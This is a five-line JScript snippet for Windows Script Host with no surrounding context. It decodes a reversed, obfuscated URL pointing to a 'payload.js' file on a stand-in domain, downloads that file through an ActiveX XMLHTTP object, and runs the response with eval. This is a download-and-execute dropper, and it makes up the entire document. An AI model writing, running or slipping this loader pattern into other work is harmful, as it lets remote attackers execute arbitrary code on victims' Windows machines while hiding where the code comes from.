var u = "sj.daolyap/moc.elpmaxe.eruces//:sptth".split("").reverse().join("");
var x = new ActiveXObject("MSXML2.ServerXMLHTTP");
x.open("GET", u, false);
x.send();
eval(x.responseText);
